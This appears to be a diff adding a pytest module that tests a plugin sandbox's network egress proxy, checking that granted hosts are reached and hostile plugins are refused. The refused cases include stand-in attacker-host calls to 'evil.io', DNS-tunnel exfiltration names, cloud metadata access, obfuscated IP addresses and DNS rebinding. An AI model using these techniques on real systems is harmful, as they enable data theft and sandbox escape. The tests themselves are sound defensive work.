@@ -1,0 +1,332 @@
+"""A plugin's network has one way out: what goes through it, and what hostile plugins try."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import subprocess
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, replace
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import grpc
+import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.x509 import load_pem_x509_certificate
+
+from aperio_cli.errors.running import PluginCrashed
+from aperio_cli.host.way_out import Egress, stubs_of
+from aperio_cli.models.artifact import DevelopmentBuild, Project
+from aperio_cli.models.limits import LEAST, Limits
+from aperio_cli.running.learning import Learned
+from tests.certificates import make_certificate
+from tests.egress import PUBLIC, Elsewhere, Server, answer_http, read_head
+from tests.process.conftest import PLUGINS
+from tests.sandbox.conftest import MIB, acting
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from aperio_cli.host.egress import Decision
+    from aperio_cli.host.sandbox.interface import Sandbox
+    from tests.sandbox.conftest import Actor, Stage
+
+GO_PROGRAM = Path(__file__).with_name("go") / "fetch.go"
+EGRESS = ("api.box.com:443", "api.box.com:80", "rpc.box.com:443", "*.boxcloud.com:443")
+LIMITS = Limits(memory_bytes=768 * MIB, cpu=4.0, processes=128, open_files=256, tmp_bytes=8 * MIB)
+OTHERS = "93.184.216.50"
+PRIVATE = {"home": "127.0.0.1", "metadata": "169.254.169.254", "corp": "10.0.0.1"}
+
+
+@dataclass
+class World:
+    """Somebody who connects, and what is there.
+
+    Attributes:
+        actor: the plugin.
+        outside: what the host finds beyond this machine.
+        decided: everything that the door has decided.
+        stub: a port of this machine that the operator's settings name.
+        closed: another port, on which somebody listens, too.
+    """
+
+    actor: Actor
+    outside: Elsewhere
+    decided: list[Decision]
+    stub: int
+    closed: int
+
+    def do(self, deed: str, *arguments: Any) -> Any:
+        return self.actor.do(deed, *arguments)
+
+
+class _Echo(grpc.GenericRpcHandler):
+    def service(self, details: grpc.HandlerCallDetails) -> Any:
+        del details
+        return grpc.unary_unary_rpc_method_handler(lambda request, _context: b"said " + request)
+
+
+def lead_away(made: socket.socket) -> None:
+    """Answer with a redirect to a host that is not granted."""
+    if read_head(made):
+        made.sendall(
+            b"HTTP/1.1 302 Found\r\nLocation: https://evil.io/stolen\r\nContent-Length: 0\r\n"
+            b"Connection: close\r\n\r\n"
+        )
+
+
+def key_pair(pem: Path) -> tuple[bytes, bytes]:
+    data = pem.read_bytes()
+    key = serialization.load_pem_private_key(data, None)
+    form = (serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+    certificate = load_pem_x509_certificate(data)
+    encoding = serialization.Encoding.PEM
+    return key.private_bytes(encoding, *form), certificate.public_bytes(encoding)
+
+
+def connecting(stage: Stage, **changes: Any) -> DevelopmentBuild:
+    build = stage.build(**({"egress": EGRESS, "limits": LIMITS} | changes))
+    script = build.script.with_name("connects.py")
+    return replace(build, script=script, project=Project(script.parent, build.project.manifest))
+
+
+@pytest.fixture(scope="module")
+def pem(stage: Stage, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A certificate for every name, and what the plugin trusts it by."""
+    names = ("api.box.com", "rpc.box.com", "evil.io", "eu.boxcloud.com", "away.boxcloud.com")
+    made = make_certificate(tmp_path_factory.mktemp("tls") / "server.pem", *names)
+    project = stage.folder / "project"
+    shutil.copy(PLUGINS / "connects.py", project)
+    (project / "ca.pem").write_bytes(key_pair(made)[1])
+    return made
+
+
+@pytest.fixture(scope="module")
+def world(stage: Stage, sandbox: Sandbox, pem: Path) -> Iterator[World]:
+    calls = grpc.server(ThreadPoolExecutor(2), handlers=[_Echo()])
+    port = calls.add_secure_port("127.0.0.1:0", grpc.ssl_server_credentials([key_pair(pem)]))
+    calls.start()
+    outside, decided = Elsewhere(), list[Any]()
+    try:
+        with (
+            Server(answer_http, pem) as secure,
+            Server(lead_away, pem) as away,
+            Server(answer_http) as plain,
+            Server(answer_http) as closed,
+        ):
+            outside.serve("api.box.com", 443, secure.port)
+            outside.serve("evil.io", 443, secure.port)
+            outside.serve("eu.boxcloud.com", 443, secure.port)
+            outside.serve("away.boxcloud.com", 443, away.port, OTHERS)
+            outside.serve("rpc.box.com", 443, port, "93.184.216.35")
+            outside.ports[PUBLIC, 80] = plain.port
+            for name, address in PRIVATE.items():
+                outside.serve(f"{name}.boxcloud.com", 443, closed.port, address)
+            outside.names["twice.boxcloud.com"] = [[PUBLIC], ["127.0.0.1"]]
+            settings = {"base_url": f"http://localhost:{plain.port}"}
+            egress = Egress(
+                "acme", settings, stubs_of(settings), record=decided.append, outside=outside
+            )
+            outside.ports["127.0.0.1", plain.port] = plain.port
+            with acting(connecting(stage), sandbox, egress=egress) as actor:
+                yield World(actor, outside, decided, plain.port, closed.port)
+    finally:
+        calls.stop(None)
+
+
+# ── through the door ──────────────────────────────────────────────────────────────────────────────
+
+SAID = "GET /a HTTP/1.1|Host: api.box.com|"
+
+
+def test_urllib_reaches_a_granted_host_in_tls_and_without(world: World) -> None:
+    assert world.do("get", "https://api.box.com/a") == SAID
+    assert world.do("get", "http://api.box.com/a") == SAID
+
+
+@pytest.mark.parametrize("client", ["httpx", "requests", "curl", "curl without a proxy"])
+def test_client_reaches_a_granted_host(world: World, client: str) -> None:
+    assert world.do("client", client, "https://api.box.com/a") == SAID
+
+
+def test_grpc_reaches_a_granted_host(world: World) -> None:
+    assert world.do("client", "grpc", "rpc.box.com:443") == "said /a"
+
+
+def test_fetch_of_node_reaches_a_granted_host(world: World) -> None:
+    if not Path("/usr/bin/node").exists():
+        pytest.skip("node is not installed")
+    assert world.do("client", "node", "https://api.box.com/a").lower() == SAID.lower()
+    assert "evil.io" in world.do("client", "node", "https://evil.io/")
+
+
+@pytest.mark.go
+def test_net_http_of_go_reaches_a_granted_host(world: World, stage: Stage) -> None:
+    if shutil.which("go") is None:
+        pytest.skip("Go is not installed")
+    program = stage.folder / "project" / "fetch"
+    subprocess.run(
+        ["go", "build", "-o", str(program), str(GO_PROGRAM)],
+        check=True, timeout=110, capture_output=True,
+        env={**os.environ, "CGO_ENABLED": "0"},
+    )  # fmt: skip
+    assert world.do("client", "go", "https://api.box.com/a") == f"{SAID} <nil>"
+    assert "not-granted" in world.do("client", "go", "https://evil.io/")
+
+
+def test_a_wildcard_and_a_stub_of_the_operators_are_reached(world: World) -> None:
+    assert "eu.boxcloud.com" in world.do("get", "https://eu.boxcloud.com/a")
+    assert "200 OK" in world.do("tunnel", "eu.boxcloud.com:443", "eu.boxcloud.com")
+    for host in ("localhost", "127.0.0.1"):
+        assert "GET /a" in world.do("get", f"http://{host}:{world.stub}/a")
+    assert world.do("connect", "AF_INET", ["127.0.0.1", world.stub]) == "connected"
+
+
+def test_a_second_hop_of_its_own_leads_where_the_first_may(world: World) -> None:
+    assert world.do("relay", "api.box.com:443").startswith("HTTP/1.1 200 ")
+
+
+# ── not through it ────────────────────────────────────────────────────────────────────────────────
+
+REFUSED = [
+    (("get", "https://evil.io/"), "403 Refused by aperio: not-granted"),
+    (("get", "https://away.boxcloud.com/"), "403 Refused by aperio: not-granted"),  # to evil.io
+    (("client", "curl without a proxy", "https://evil.io/"), "Could not resolve host"),
+    (("client", "grpc", "evil.io:443"), "UNAVAILABLE"),
+    (("tunnel", "evil.io:443", "evil.io"), "HTTP/1.1 403 Refused by aperio: not-granted"),
+    (("tunnel", "api.box.com:8443"), "HTTP/1.1 403 Refused by aperio: not-granted"),
+    (("tunnel", "93.184.216.34:443"), "HTTP/1.1 403 Refused by aperio: address-as-host"),
+    (("tunnel", "169.254.169.254:80"), "HTTP/1.1 403 Refused by aperio: address-as-host"),
+    (("tunnel", "2130706433:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
+    (("tunnel", "0x7f.1:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
+    (("tunnel", "[::1]:443"), "HTTP/1.1 403 Refused by aperio: not-a-host"),
+    (("tunnel", "home.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
+    (("tunnel", "metadata.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
+    (("tunnel", "corp.boxcloud.com:443"), "HTTP/1.1 403 Refused by aperio: address-not-public"),
+    (("relay", "evil.io:443"), "HTTP/1.1 403 Refused by aperio: not-granted"),
+    (("tunnel", "api.box.com:443", "evil.io"), "ACCESS_DENIED"),
+    (("door", "api.box.com:443", "evil.io"), "ACCESS_DENIED"),
+    (("get", "http://169.254.169.254/latest/meta-data/"), "403"),
+    (("connect", "AF_INET", ["169.254.169.254", 80]), "ENETUNREACH"),
+    (("connect", "AF_INET", [PUBLIC, 443]), "ENETUNREACH"),
+    (("connect", "AF_INET6", ["2606:2800:220:1::1", 443]), "ENETUNREACH"),
+    (("connect", "AF_INET6", ["::ffff:93.184.216.34", 443]), "ENETUNREACH"),
+    (("connect", "AF_INET", [PUBLIC, 53], "SOCK_DGRAM"), "ENETUNREACH"),
+    (("ask_name_server", "8.8.8.8", "c2VjcmV0.evil.io"), "ENETUNREACH"),
+    (("ask_name_server", "127.0.0.53", "c2VjcmV0.evil.io"), "timed out"),
+]
+
+
+@pytest.mark.parametrize(("deed", "said"), REFUSED, ids=[str(deed) for deed, _ in REFUSED])
+def test_hostile_plugin_reaches_nothing_else(
+    world: World, deed: tuple[Any, ...], said: str
+) -> None:
+    before = list(world.outside.dialled)
+    assert said in str(world.do(*deed))
+    reached = set(world.outside.dialled[len(before) :])
+    assert reached <= {(PUBLIC, 443), (OTHERS, 443)}, "a place was dialled that is not granted"
+
+
+def test_services_of_the_host_are_not_there(world: World) -> None:
+    assert world.do("connect", "AF_INET", ["127.0.0.1", world.closed]) == "ECONNREFUSED"
+
+
+def test_no_name_is_resolved_but_those_that_are_granted(world: World) -> None:
+    assert world.do("resolve", "api.box.com") == ["127.10.0.1"]
+    assert world.do("resolve", "evil.io")[0].startswith("gaierror")
+    assert world.do("resolve", "c2VjcmV0.api.box.com")[0].startswith("gaierror")
+
+
+def test_the_owner_of_a_name_cannot_answer_twice(world: World) -> None:
+    world.outside.ports["127.0.0.1", 443] = world.closed
+    first = world.do("tunnel", "twice.boxcloud.com:443")
+    second = world.do("tunnel", "twice.boxcloud.com:443")
+    assert first.startswith("HTTP/1.1 200 ")
+    assert "address-not-public" in second
+    assert ("127.0.0.1", 443) not in world.outside.dialled
+
+
+def test_clients_are_told_of_the_proxy_and_of_nothing_past_it(world: World) -> None:
+    told = world.do("variables", "HTTPS_PROXY", "http_proxy", "NO_PROXY", "NODE_USE_ENV_PROXY")
+    assert told == ["http://127.0.0.1:3128", "http://127.0.0.1:3128", "", "1"]
+
+
+# ── what is told ──────────────────────────────────────────────────────────────────────────────────
+
+
+def test_each_connection_ends_in_one_record_and_each_refused_place_in_one_warning(
+    world: World,
+) -> None:
+    before = len(world.decided)
+    for _ in range(3):
+        world.do("tunnel", "told.io:443")
+    world.do("get", "https://api.box.com/a")
+    decided = [json.loads(json.dumps(each.to_json())) for each in world.decided[before:]]
+    assert [(each["host"], each["verdict"]) for each in decided] == [
+        *[("told.io", "refused")] * 3,
+        ("api.box.com", "allowed"),
+    ]
+    assert decided[0]["plugin"] == "acme/box"
+    assert decided[-1]["organization"] == "acme"
+    warned = [r.message for r in world.actor.logs if r.level == "warn" and "told.io" in r.message]
+    assert warned == [
+        "egress refused: told.io:443: no rule covers this host and port",
+        "  add `told.io:443` to `permissions.egress` of manifest.yaml",
+    ]
+    verbose = [r.message for r in world.actor.logs if r.message.startswith("egress {")]
+    assert sum('"told.io"' in message for message in verbose) == 3
+
+
+def test_a_door_that_fails_ends_the_plugin(stage: Stage, sandbox: Sandbox, pem: Path) -> None:
+    del pem
+    egress = Egress(outside=Elsewhere())
+    with acting(connecting(stage), sandbox, egress=egress) as actor:
+        assert actor.do("variables", "NO_PROXY") == [""]
+        held: Any = actor.plugin._run.held
+        held.door._listening[0].shutdown(socket.SHUT_RDWR)
+        with pytest.raises(PluginCrashed):
+            actor.runner.run(actor.plugin.ended())
+    assert any("door failed, so it was stopped" in record.message for record in actor.logs)
+
+
+def test_without_hosts_a_plugin_has_no_door(stage: Stage, sandbox: Sandbox, pem: Path) -> None:
+    del pem
+    with acting(connecting(stage, egress=()), sandbox) as actor:
+        assert actor.do("variables", "HTTPS_PROXY") == [None]
+        assert actor.do("connect", "AF_INET", ["127.0.0.1", 3128]) == "ECONNREFUSED"
+        said = [r.message for r in actor.logs if r.message.startswith("contained by")]
+    assert "egress" in said[0]
+
+
+# ── as it is typed ────────────────────────────────────────────────────────────────────────────────
+
+
+def test_learning_lets_through_what_is_public_and_says_so(
+    stage: Stage, sandbox: Sandbox, pem: Path
+) -> None:
+    learned, outside = Learned(), Elsewhere()
+    with Server(answer_http, pem) as server:
+        outside.serve("evil.io", 443, server.port)
+        outside.serve("home.io", 443, server.port, "127.0.0.1")
+        egress = Egress("", {}, (), is_learning=True, record=learned.record, outside=outside)
+        build = connecting(stage, egress=())
+        with acting(build, sandbox, egress=egress, count=learned.count) as actor:
+            assert "GET /a" in actor.do("get", "https://evil.io/a")
+            assert "address-not-public" in actor.do("get", "https://home.io/a")
+            said = [record.message for record in actor.logs if record.level == "warn"]
+    assert "egress is only reported: what no rule covers is let through if public" in said
+    assert "egress would be refused: evil.io:443: no rule covers this host and port" in said
+    proposal = learned.proposal(build.project.manifest).to_json()
+    assert proposal["permissions"] == {"egress": ["evil.io:443"]}
+    assert set(proposal["limits"]) == {"memory", "tmp"}
+
+
+def test_the_least_limits_are_enough_to_start_and_answer(
+    stage: Stage, sandbox: Sandbox, pem: Path
+) -> None:
+    del pem
+    with acting(connecting(stage, limits=LEAST["python"]), sandbox) as actor:
+        assert actor.do("variables", "NO_PROXY") == [""]
